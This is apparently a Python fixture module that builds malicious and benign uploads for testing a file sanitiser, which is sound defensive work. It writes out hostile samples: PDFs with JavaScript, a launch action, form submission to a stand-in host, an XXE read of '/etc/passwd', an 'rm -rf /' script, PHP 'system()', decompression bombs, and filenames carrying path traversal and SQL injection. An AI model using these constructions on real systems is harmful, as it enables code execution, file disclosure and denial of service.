"""Files nobody should keep as they come, and some that look odd and are welcome. Each is made here; none is a fixture from elsewhere."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

# What must never come out: it stands in every hostile file that is taken.
MARK = b"evil-4711"
SCRIPT = b"<script>alert('evil-4711')</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
Make = Callable[[], bytes]


def image(kind: str, mode: str = "RGB", size=(64, 48), **options) -> bytes:
    out = io.BytesIO()
    colour = {"RGB": (10, 90, 90), "RGBA": (10, 90, 90, 120), "CMYK": (200, 20, 20, 10)}.get(mode, 90)
    Image.new(mode, size, colour).save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _turn in range(pages):
            document.add_blank_page(page_size=(300, 200))
            page = document.pages[-1]
            page.obj.Contents = document.make_stream(b"q 1 0 0 RG 10 10 100 50 re S Q")
        if change:
            change(document)
        document.save(out, **options)
    return out.getvalue()


def script(document) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('evil-4711')"))


def open_action(document):
    document.Root.OpenAction = script(document)


def launch(document):
    document.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe /c evil-4711"))


def uri_annotation(document):
    action = Dictionary(S=Name.URI, URI=String("https://evil-4711.test/"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    document.pages[0].obj.Annots = document.make_indirect(Array([document.make_indirect(note)]))


def page_actions(document):
    document.pages[0].obj.AA = Dictionary(O=script(document))
    document.Root.AA = Dictionary(WC=script(document))


def names_tree(document):
    named = Array([String("evil-4711"), document.make_indirect(script(document))])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=named))


def embedded(document):
    document.attachments["evil-4711.exe"] = b"MZ evil-4711"


def file_annotation(document):
    file = pikepdf.AttachedFileSpec(document, b"MZ evil-4711", filename="evil-4711.exe")
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=file.obj)
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])


def form(document, **more):
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("evil-4711"), Rect=Array([0, 0, 100, 20]),
        AA=Dictionary(K=script(document)),
    )  # fmt: skip
    row = document.make_indirect(field)
    document.pages[0].obj.Annots = Array([row])
    document.Root.AcroForm = Dictionary(Fields=Array([row]), **more)


def xfa(document):
    form(document, XFA=document.make_stream(b"<xdp:xdp><script>evil-4711</script></xdp:xdp>"))


def submit_form(document):
    form(document)
    document.Root.OpenAction = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil-4711.test/"))
    )


def rich_media(document):
    row = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary(X=String("evil-4711"))
    )  # fmt: skip
    document.pages[0].obj.Annots = Array([document.make_indirect(row)])


def metadata(document):
    document.docinfo["/Title"] = "evil-4711"
    document.Root.Metadata = document.make_stream(b"<x:xmpmeta>evil-4711</x:xmpmeta>")
    document.Root.PieceInfo = Dictionary(Evil=Dictionary(Private=String("evil-4711")))


def outlines(document):
    row = document.make_indirect(Dictionary(Title=String("evil-4711"), A=script(document)))
    document.Root.Outlines = document.make_indirect(Dictionary(First=row, Last=row, Count=1))
    row.Parent = document.Root.Outlines


def comment_in_drawing(document):
    document.pages[0].obj.Contents = document.make_stream(b"% " + SCRIPT + b"\nq 10 10 100 50 re S Q")


def strange_operators(document):
    document.pages[0].obj.Contents = document.make_stream(
        b"q /Span <</ActualText (evil-4711)>> BDC 10 10 9 9 re S EMC evil-4711 /Evil Do Q"
    )


def postscript(document):
    row = document.make_stream(b"(evil-4711) run", Type=Name.XObject, Subtype=Name.PS)
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(E=row))


def external_stream(document):
    row = document.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    row.F = String("file:///etc/evil-4711")
    row.Evil = String("evil-4711")
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=row))
    document.pages[0].obj.Contents = document.make_stream(b"/A Do")


def photograph_with_script(document):
    row = document.make_stream(jpeg_with_script())
    row.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )  # fmt: skip
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=row))
    document.pages[0].obj.Contents = document.make_stream(b"q 64 0 0 48 0 0 cm /F Do Q")


def layers(document):
    group = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("evil-4711")))
    document.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(Name=String("evil-4711")))
    document.pages[0].obj.Resources = Dictionary(Properties=Dictionary(MC0=group))


def jpeg_with_script() -> bytes:
    about = Image.Exif()
    about[0x010E] = SCRIPT.decode()
    about[0x9286] = "<?php system('evil-4711'); ?>"
    return image("JPEG", exif=about, comment=SCRIPT)


def png_with_text() -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", SCRIPT.decode())
    said.add_itxt("XML:com.adobe.xmp", "<x>evil-4711</x>")
    return image("PNG", pnginfo=said)


def moving_png() -> bytes:
    out = io.BytesIO()
    others = [Image.new("RGB", (64, 48), colour) for colour in ("red", "blue")]
    Image.new("RGB", (64, 48), "teal").save(out, "PNG", save_all=True, append_images=others, duration=100)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    made = bytearray(image("JPEG"))
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(made)


def png_text_bomb() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    made = image("PNG")
    bomb = chunk(b"zTXt", b"evil-4711\0\0" + zlib.compress(b"A" * (200 << 20), 9))
    return made[:33] + bomb + made[33:]


def archive(name: str = "evil-4711.html", body: bytes = SCRIPT, times: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as kept:
        for turn in range(times):
            kept.writestr(f"{turn}-{name}", body)
    return out.getvalue()


def stream_bomb() -> bytes:
    """One stream that unfolds into two gigabytes, drawn by the page."""
    squeezed = zlib.compressobj(9)
    packed = b"".join(squeezed.compress(b" " * (16 << 20)) for _turn in range(128)) + squeezed.flush()

    def put(document):
        row = document.make_stream(packed)
        row.stream_dict = Dictionary(Filter=Name.FlateDecode)
        document.pages[0].obj.Contents = row

    return pdf(put, compress_streams=False)


def image_bomb() -> bytes:
    """A picture that unfolds, again and again, into more than anybody has."""
    packed = zlib.compress(zlib.compress(b"\0" * (900 << 20), 9), 9)

    def put(document):
        row = document.make_stream(packed)
        row.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9, ColorSpace=Name.DeviceGray, BitsPerComponent=8,
            Filter=Array([Name.FlateDecode, Name.FlateDecode]),
        )  # fmt: skip
        document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=row))

    return pdf(put)


def deep_pages(depth: int = 20_000) -> bytes:
    """A tree of pages that is nothing but a way down."""
    parts, places = [b"%PDF-1.7\n"], []

    def put(number: int, body: str) -> None:
        places.append(sum(map(len, parts)))
        parts.append(f"{number} 0 obj\n{body}\nendobj\n".encode())

    put(1, "<</Type/Catalog/Pages 2 0 R>>")
    for number in range(2, depth + 2):
        up = f"/Parent {number - 1} 0 R" if number > 2 else ""
        put(number, f"<</Type/Pages/Count 1{up}/Kids[{number + 1} 0 R]>>")
    put(depth + 2, f"<</Type/Page/Parent {depth + 1} 0 R/MediaBox[0 0 9 9]>>")
    start = sum(map(len, parts))
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    parts.append(f"xref\n0 {depth + 3}\n0000000000 65535 f \n{table}".encode())
    parts.append(f"trailer<</Size {depth + 3}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF".encode())
    return b"".join(parts)


def looping_pages() -> bytes:
    return deep_pages(3).replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]")


def _nested() -> bytes:
    made = deep_pages(1)
    return made.replace(b"/MediaBox[0 0 9 9]", b"/MediaBox " + b"[" * 30_000 + b"]" * 30_000)


def locked(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="a", user=user))


REFUSED: dict[str, Make] = {
    "nothing at all": lambda: b"",
    "one zero": lambda: b"\0",
    "HTML": lambda: b"<!doctype html><html>" + SCRIPT,
    "HTML after a byte-order mark": lambda: b"\xef\xbb\xbf<html>" + SCRIPT,
    "a drawing with a script (SVG)": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    "XML that asks for a file": lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    "a test virus": lambda: EICAR,
    "a program for Windows": lambda: b"MZ\x90\x00" + MARK,
    "a program for Linux": lambda: b"\x7fELF" + MARK,
    "a shell script": lambda: b"#!/bin/sh\nrm -rf / # evil-4711",
    "PHP": lambda: b"<?php system('evil-4711'); ?>",
    "an archive": archive,
    "an archive that unfolds": lambda: archive(body=b"0" * (50 << 20), times=4),
    "a word processor's file": lambda: archive("word/document.xml", b"<w/>"),
    "GIF and script at once": lambda: b"GIF89a/*" + image("GIF")[6:] + b"*/=1;alert('evil-4711')",
    "a moving picture (GIF)": lambda: image("GIF"),
    "TIFF": lambda: image("TIFF"),
    "WEBP": lambda: image("WEBP"),
    "BMP": lambda: image("BMP"),
    "an icon": lambda: image("ICO"),
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(evil-4711) run",
    "a PDF after an archive": lambda: archive() + pdf(),
    "a PDF after HTML": lambda: b"<html>" + SCRIPT + b"\n" + pdf(),
    "the first bytes of a PDF alone": lambda: b"%PDF-1.7\n",
    "a PDF cut short": lambda: pdf()[:200],
    "a PDF of noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF",
    "a PDF without a page": lambda: _no_pages(),
    "a PDF with a password": lambda: locked("b"),
    "a PDF locked for its owner alone": lambda: locked(""),
    "a PDF of too many pages": lambda: pdf(pages=61),
    "a PDF that unfolds": stream_bomb,
    "a picture in a PDF that unfolds twice": image_bomb,
    "pages nested without end": deep_pages,
    "pages that hold themselves": looping_pages,
    "brackets nested without end": _nested,
    "a PNG of 50,000 by 50,000": lambda: png_header(50_000, 50_000),
    "a PNG of no width": lambda: png_header(0, 10),
    "a PNG larger than numbers go": lambda: png_header(2**31 - 1, 2**31 - 1),
    "a JPEG of 65,000 by 65,000": lambda: jpeg_header(65_000, 65_000),
    "a PNG whose text unfolds": png_text_bomb,
    "a PNG cut short": lambda: image("PNG", size=(400, 400))[:60],
    "a PNG of noise": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
    "a PNG that promises more than it holds": lambda: png_header(4_000, 4_000),
    "a JPEG cut short": lambda: image("JPEG", size=(800, 800))[:700],
    "a JPEG of noise": lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20,
    "JPEG's first bytes before HTML": lambda: b"\xff\xd8\xff" + SCRIPT,
}  # fmt: skip

TAKEN: dict[str, Make] = {
    "a PDF before an archive": lambda: pdf() + archive(),
    "a PDF before HTML": lambda: pdf() + SCRIPT,
    "a PDF that runs a script when opened": lambda: pdf(open_action),
    "a PDF that starts a program": lambda: pdf(launch),
    "a PDF with a link": lambda: pdf(uri_annotation),
    "a PDF with scripts on its pages": lambda: pdf(page_actions),
    "a PDF with named scripts": lambda: pdf(names_tree),
    "a PDF that carries a program": lambda: pdf(embedded),
    "a PDF with a file pinned to a page": lambda: pdf(file_annotation),
    "a PDF form": lambda: pdf(form),
    "a PDF with an XFA form": lambda: pdf(xfa),
    "a PDF that sends itself away": lambda: pdf(submit_form),
    "a PDF with a film": lambda: pdf(rich_media),
    "a PDF with metadata": lambda: pdf(metadata),
    "a PDF with bookmarks that act": lambda: pdf(outlines),
    "a script in a comment of a drawing": lambda: pdf(comment_in_drawing, compress_streams=False),
    "words hidden beside a drawing": lambda: pdf(strange_operators),
    "PostScript in a PDF": lambda: pdf(postscript),
    "a PDF that draws a file of the machine": lambda: pdf(external_stream),
    "a PDF with a photograph that carries a script": lambda: pdf(photograph_with_script),
    "a PDF with layers": lambda: pdf(layers),
    "a JPEG with a script in its EXIF": jpeg_with_script,
    "a JPEG before HTML": lambda: image("JPEG") + SCRIPT,
    "a JPEG before an archive": lambda: image("JPEG") + archive(),
    "a PNG with a script as its text": png_with_text,
    "a PNG before HTML": lambda: image("PNG") + SCRIPT,
    "a PNG before PHP": lambda: image("PNG") + b"<?php system('evil-4711'); ?>",
}

WELCOME: dict[str, tuple[Make, str]] = {
    "a PDF": (pdf, "pdf"),
    "a PDF of sixty pages": (lambda: pdf(pages=60), "pdf"),
    "a PNG": (lambda: image("PNG"), "png"),
    "a moving PNG": (moving_png, "png"),
    "a PNG in sixteen bits": (lambda: image("PNG", "I;16"), "png"),
    "a PNG one sees through": (lambda: image("PNG", "RGBA"), "png"),
    "a PNG with a palette": (lambda: image("PNG", "P"), "png"),
    "a PNG in black and white": (lambda: image("PNG", "1"), "png"),
    "a JPEG": (lambda: image("JPEG"), "jpeg"),
    "a JPEG in the colours of a printer": (lambda: image("JPEG", "CMYK"), "jpeg"),
    "a JPEG in grey": (lambda: image("JPEG", "L"), "jpeg"),
    "a progressive JPEG": (lambda: image("JPEG", progressive=True), "jpeg"),
}

# Names a browser may send; none is kept, whatever is in the file.
NAMES = (
    "diplôme.pdf", "diplome.pdf.exe", "diplome.html", "../../../etc/passwd", "..\\..\\windows\\system32\\evil.pdf",
    "a\x00b.pdf", "\u202efdp.exe", "é" * 120 + ".pdf", "", ".", "..", "CON", "a/b/c.pdf", "<script>alert(1)</script>.pdf",
    "'; DROP TABLE proofs;--.pdf", "%00.pdf", "😀.pdf",
)  # fmt: skip


def _no_pages() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.save(out)
    return out.getvalue()


def everything_in(content: bytes) -> Iterator[bytes]:
    """The bytes themselves, and of a PDF every object, dictionary and decoded stream."""
    yield content
    if not content.startswith(b"%PDF"):
        return
    with pikepdf.open(io.BytesIO(content)) as document:
        for one in document.objects:
            yield repr(one).encode()
            if isinstance(one, pikepdf.Stream):
                yield one.read_raw_bytes()
                if one.get("/Filter") in (None, Name.FlateDecode):
                    yield one.read_bytes()
